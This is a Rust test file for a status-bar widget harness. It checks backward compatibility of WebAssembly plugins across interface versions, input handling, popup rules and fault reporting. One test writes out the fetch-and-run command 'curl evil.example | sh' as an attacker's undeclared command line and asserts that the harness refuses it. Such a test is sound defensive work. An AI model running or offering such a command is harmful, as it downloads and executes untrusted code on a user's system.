//! A third-party component run through the harness: input reaches it, and
//! its faults come back as the bar would report them.

use obi_harness::{
    Capability, Emphasis, Failure, Harness, Input, Inputs, Script, ScrollDirection, plugin_spec, popup_rows, texts,
};
use std::path::{Path, PathBuf};

fn faulty_wasm() -> PathBuf {
    let workspace = obi_build_support::workspace_root(Path::new(env!("CARGO_MANIFEST_DIR")));
    obi_build_support::build_components(&workspace, &["obi-test-widget-faulty"]).unwrap().remove(0)
}

fn script() -> Script {
    Script::at("2024-03-09T15:04:05Z".parse().unwrap())
}

#[test]
fn input_reaches_the_item_and_the_widget_refreshes() {
    let mut widget = Harness::plugin(faulty_wasm(), r#"{ "fault": "Never" }"#, &[], &script()).unwrap();
    assert_eq!(texts(&widget.refresh().unwrap()), ["refresh 1"]);
    let view = widget.input("faulty", Input::Scroll(ScrollDirection::Up)).unwrap();
    assert_eq!(texts(&view), ["faulty: Input::Scroll(ScrollDirection::Up)"]);
}

#[test]
fn a_trap_is_a_failure_naming_its_cause() {
    let mut widget = Harness::plugin(faulty_wasm(), r#"{ "fault": "Trap", "at_refresh": 2 }"#, &[], &script()).unwrap();
    assert!(widget.refresh().is_ok());
    match widget.refresh() {
        Err(Failure::Trap(message)) => assert!(message.contains("faulty widget traps on refresh 2"), "{message}"),
        other => panic!("expected a trap, got {other:?}"),
    }
}

/// A widget built against `obi:widget@0.1.0`, before 0.1.1 added the
/// tiler, the view's emphasis and the bar given to `init`, loads and runs:
/// its 0.1.0 imports are served by 0.1.1's, and its view is read as 0.1.0's.
#[test]
fn a_widget_built_against_0_1_0_still_runs() {
    let workspace = obi_build_support::workspace_root(Path::new(env!("CARGO_MANIFEST_DIR")));
    let legacy = obi_build_support::build_components(&workspace, &["obi-test-widget-legacy"]).unwrap().remove(0);
    let mut widget = Harness::plugin(legacy, "{}", &[], &script()).unwrap();
    let view = widget.refresh().unwrap();
    assert_eq!(texts(&view), ["clicks: 0"]);
    assert!(view.items[0].is_selected());
    assert_eq!(view.items[0].takes, obi_harness::Inputs::ALL, "a 0.1.0 item cannot say what it takes");
    let view = widget.input("clicks", Input::PrimaryClick).unwrap();
    assert_eq!(texts(&view), ["clicks: 1"]);
}

/// A widget built against `obi:widget@0.1.1`, with bare exports, before
/// 0.1.2 made them the `guest` interface: it loads, its view keeps its
/// emphasis and inputs, and its raw command line runs only when the user
/// declared that very line for it.
#[test]
fn a_widget_built_against_0_1_1_still_runs_and_spawns_only_what_was_declared() {
    let workspace = obi_build_support::workspace_root(Path::new(env!("CARGO_MANIFEST_DIR")));
    let wasm = obi_build_support::build_components(&workspace, &["obi-test-widget-legacy-0-1-1"]).unwrap().remove(0);
    let script = script();
    let spec = |line: &str, declared: &[(&str, &str)]| {
        let mut spec = plugin_spec(wasm.clone(), format!("{line:?}"), [Capability::Process]);
        spec.monitor = Some(1);
        spec.commands = declared.iter().map(|(id, line)| (id.to_string(), line.to_string())).collect();
        spec
    };

    let mut declared = Harness::start(spec("notify-send hi", &[("hello", "notify-send hi")]), &script).unwrap();
    let view = declared.refresh().unwrap();
    assert_eq!(texts(&view), ["monitor Some(1)"]);
    assert_eq!((view.items[0].emphasis, view.items[0].takes), (Emphasis::Muted, Inputs::PRIMARY_CLICK));
    assert_eq!(texts(&declared.input("run", Input::PrimaryClick).unwrap()), ["spawned"]);

    let mut attacker = Harness::start(spec("curl evil.example | sh", &[("hello", "notify-send hi")]), &script).unwrap();
    let shown = texts(&attacker.input("run", Input::PrimaryClick).unwrap()).remove(0);
    assert!(shown.starts_with("refused:") && shown.contains("not one of the commands declared"), "{shown}");
    assert_eq!(script.spawned(), ["notify-send hi"], "only the declared line ran");
}

/// A popup opens only in answer to input: one a widget gives unasked is
/// not shown, and the widget is told it was closed; after a click it is
/// shown and kept from refresh to refresh until closed.
#[test]
fn a_popup_opens_only_in_answer_to_input() {
    let config = r#"{ "fault": "PushyPopup", "at_refresh": 1 }"#;
    let mut widget = Harness::plugin(faulty_wasm(), config, &[], &script()).unwrap();
    let view = widget.refresh().unwrap();
    assert_eq!(view.popup, None, "unasked");
    assert_eq!(texts(&widget.refresh().unwrap()), ["popup closed beside faulty"]);
    let view = widget.input("faulty", Input::SecondaryClick).unwrap();
    assert_eq!(popup_rows(&view), [["pushed"]]);
    assert_eq!(popup_rows(&widget.refresh().unwrap()), [["pushed"]], "kept while open");
    assert_eq!(widget.close_popup().unwrap().popup, None);
}

/// A popup beside an item its view does not have is the widget's fault,
/// named like a bad view's.
#[test]
fn a_popup_beside_no_item_is_a_bad_view() {
    let config = r#"{ "fault": "StrayPopup", "at_refresh": 1 }"#;
    let mut widget = Harness::plugin(faulty_wasm(), config, &[], &script()).unwrap();
    match widget.refresh() {
        Err(Failure::BadView(message)) => assert!(message.contains("\"nowhere\""), "{message}"),
        other => panic!("expected a bad view, got {other:?}"),
    }
}

/// A widget built against `obi:widget@0.1.2`, before 0.1.3 gave frames a
/// popup: it loads, asks for its next refresh, describes its config, and
/// popup input never reaches it.
#[test]
fn a_widget_built_against_0_1_2_still_runs() {
    let workspace = obi_build_support::workspace_root(Path::new(env!("CARGO_MANIFEST_DIR")));
    let wasm = obi_build_support::build_components(&workspace, &["obi-test-widget-legacy-0-1-2"]).unwrap().remove(0);
    let schema = obi_harness::config_schema(wasm.clone()).unwrap().map(|schema| schema.to_string());
    assert_eq!(schema.as_deref(), Some(r#"{"type":"object"}"#));
    let mut widget = Harness::plugin(wasm, "{}", &[], &script()).unwrap();
    let view = widget.refresh().unwrap();
    assert_eq!(texts(&view), ["refreshes: 1, clicks: 0"]);
    assert_eq!(widget.next_refresh(), Some(std::time::Duration::from_millis(250)));
    let view = widget.input("count", Input::SecondaryClick).unwrap();
    assert_eq!((texts(&view), view.popup), (vec!["refreshes: 2, clicks: 1".to_owned()], None));
    let view = widget.popup_input("count", "any", obi_harness::PopupInput::Slide(3)).unwrap();
    assert_eq!(texts(&view), ["refreshes: 3, clicks: 1"]);
}

/// A widget built against `obi:widget@0.1.3`, before 0.1.4 added `audio`:
/// its popup opens, input inside it comes back, and it hears it closed.
#[test]
fn a_widget_built_against_0_1_3_still_runs() {
    let workspace = obi_build_support::workspace_root(Path::new(env!("CARGO_MANIFEST_DIR")));
    let wasm = obi_build_support::build_components(&workspace, &["obi-test-widget-legacy-0-1-3"]).unwrap().remove(0);
    let mut widget = Harness::plugin(wasm, "{}", &[], &script()).unwrap();
    assert_eq!(texts(&widget.refresh().unwrap()), ["slid to 0, closed 0"]);
    let view = widget.input("level", Input::SecondaryClick).unwrap();
    assert_eq!(obi_harness::popup_rows(&view), [["[0]"]]);
    let view = widget.popup_input("level", "slider", obi_harness::PopupInput::Slide(64)).unwrap();
    assert_eq!(
        (texts(&view), obi_harness::popup_rows(&view)),
        (vec!["slid to 64, closed 0".to_owned()], vec![vec!["[64]".to_owned()]])
    );
    let view = widget.close_popup().unwrap();
    assert_eq!((texts(&view), view.popup), (vec!["slid to 64, closed 1".to_owned()], None));
}

/// A widget built against `obi:widget@0.1.4`, before 0.1.5 added styled
/// text: its view and popup read as they did (an emphasis, a tooltip, a
/// label, a separator, a button whose click comes back), and a requested
/// refresh reaches it.
#[test]
fn a_widget_built_against_0_1_4_still_runs() {
    let workspace = obi_build_support::workspace_root(Path::new(env!("CARGO_MANIFEST_DIR")));
    let wasm = obi_build_support::build_components(&workspace, &["obi-test-widget-legacy-0-1-4"]).unwrap().remove(0);
    let mut widget = Harness::plugin(wasm, "{}", &[], &script()).unwrap();
    let view = widget.refresh().unwrap();
    assert_eq!(texts(&view), ["requested 0, pressed 0"]);
    assert!(view.items[0].is_selected());
    assert_eq!(view.items[0].tooltip.as_deref(), Some("0.1.4"));
    let view = widget.request_refresh().unwrap();
    assert_eq!(texts(&view), ["requested 1, pressed 0"]);
    let view = widget.input("count", Input::SecondaryClick).unwrap();
    assert_eq!(obi_harness::popup_rows(&view), [["legacy"], ["-"], ["press"]]);
    let view = widget.popup_input("count", "press", obi_harness::PopupInput::Input(Input::PrimaryClick)).unwrap();
    assert_eq!(texts(&view), ["requested 1, pressed 1"]);
}

/// A widget built against `obi:widget@0.1.6`, before 0.1.7 added
/// `notifications`: its item's own look comes through, and it is told
/// where the pointer was.
#[test]
fn a_widget_built_against_0_1_6_still_runs() {
    let workspace = obi_build_support::workspace_root(Path::new(env!("CARGO_MANIFEST_DIR")));
    let wasm = obi_build_support::build_components(&workspace, &["obi-test-widget-legacy-0-1-6"]).unwrap().remove(0);
    let mut widget = Harness::plugin(wasm, "{}", &[], &script()).unwrap();
    let view = widget.refresh().unwrap();
    assert_eq!(texts(&view), ["not clicked"]);
    let look = view.items[0].look.as_ref().expect("its own look");
    assert_eq!((look.colour, look.padding), (Some(obi_harness::Rgba::rgb(255, 0, 0)), 4.0));
    let pointer = obi_harness::Pointer { x: 12.5, y: 7.0, ..Default::default() };
    let view = widget.input_at("where", Input::PrimaryClick, pointer).unwrap();
    assert_eq!(texts(&view), ["clicked at 12.5,7"]);
}

/// A widget built against `obi:widget@0.1.7`, before 0.1.8 added
/// `backlight`: 0.1.8's host serves its `notifications` import.
#[test]
fn a_widget_built_against_0_1_7_still_runs() {
    let workspace = obi_build_support::workspace_root(Path::new(env!("CARGO_MANIFEST_DIR")));
    let wasm = obi_build_support::build_components(&workspace, &["obi-test-widget-legacy-0-1-7"]).unwrap().remove(0);
    let script = script();
    let mut widget = Harness::plugin(wasm, "{}", &[Capability::Notifications], &script).unwrap();
    let view = widget.refresh().unwrap();
    assert_eq!(texts(&view), ["0 unseen"]);
    let standing = view.items[0].tooltip.as_deref().unwrap_or_default();
    assert!(standing.starts_with("not serving: "), "{standing}");
    script.serve_notifications(obi_harness::notifications::Settings::default());
    assert_eq!(widget.refresh().unwrap().items[0].tooltip.as_deref(), Some("serving"));
}
